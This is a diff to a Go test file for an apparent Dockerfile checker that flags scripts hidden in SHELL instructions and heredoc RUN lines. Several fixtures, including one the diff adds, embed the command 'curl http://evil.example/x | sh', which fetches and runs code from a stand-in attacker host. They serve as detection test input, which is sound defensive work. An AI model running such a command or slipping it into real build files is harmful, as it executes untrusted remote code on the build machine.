@@ -39,6 +39,7 @@ func TestNoTextOfAFileHidesAScriptOfLinux(t *testing.T) {
 		"busybox":                                  debian + "SHELL [\"/bin/busybox\", \"sh\", \"-c\"]\n" + piped,
 		"conda":                                    debian + "SHELL [\"conda\", \"run\", \"-n\", \"x\", \"/bin/bash\", \"-c\"]\n" + piped,
 		"a shell of Windows that was taken back":   "# escape=`\n" + debian + "SHELL [\"powershell\", \"-c\"]\nRUN a\nSHELL [\"/bin/sh\", \"-c\"]\n" + piped,
+		"a script of the shell's own":              debian + "SHELL [\"/bin/sh\", \"-c\", \"curl http://evil.example/x | sh\"]\nRUN true\n",
 		"a first line that names no interpreter":   debian + "RUN #!/usr/bin/python3 <<EOF\ncurl http://evil.example/x | sh\nEOF\n",
 		"a first line that names a shell by env":   debian + "RUN <<EOF\n#!/usr/bin/env -S bash -e\ncurl http://evil.example/x | sh\nEOF\n",
 		"a first line that names a shell of a box": debian + "RUN <<EOF\n#!/bin/busybox sh\ncurl http://evil.example/x | sh\nEOF\n",
@@ -92,6 +93,27 @@ func TestShellsAreFoundAmongTheWordsThatStartThem(t *testing.T) {
 	} {
 		if got := shellAmong(strings.Fields(words)); got != want {
 			t.Errorf("%s: %q, want %q", words, got, want)
+		}
+	}
+}
+
+func TestAShellHoldsAScriptOnlyBehindItsOptions(t *testing.T) {
+	for text, want := range map[string]bool{
+		`SHELL ["/bin/sh", "-c"]`:                           false,
+		`SHELL ["/bin/bash", "-eo", "pipefail", "-c"]`:      false,
+		`SHELL ["/bin/bash", "-c", "-o", "pipefail"]`:       false,
+		`SHELL ["/bin/bash", "-eco", "pipefail"]`:           false,
+		`SHELL ["/bin/bash", "--login", "-c"]`:              false,
+		`SHELL ["conda", "run", "-n", "x", "bash", "-c"]`:   false,
+		`SHELL ["cmd", "/S", "/C"]`:                         false,
+		`SHELL ["python", "-c", "print(1)"]`:                false,
+		`SHELL ["/bin/sh", "-c", "a; eval \"$0\""]`:         true,
+		`SHELL ["/bin/bash", "-ec", "-o", "pipefail", "a"]`: true,
+		`SHELL ["/usr/bin/env", "bash", "-c", "a"]`:         true,
+	} {
+		f := df.Parse("Dockerfile", []byte("FROM debian:12\n"+text+"\n"), df.Options{})
+		if got := holdsScript(f.Instructions[1]); got != want {
+			t.Errorf("%s: %t", text, got)
 		}
 	}
 }
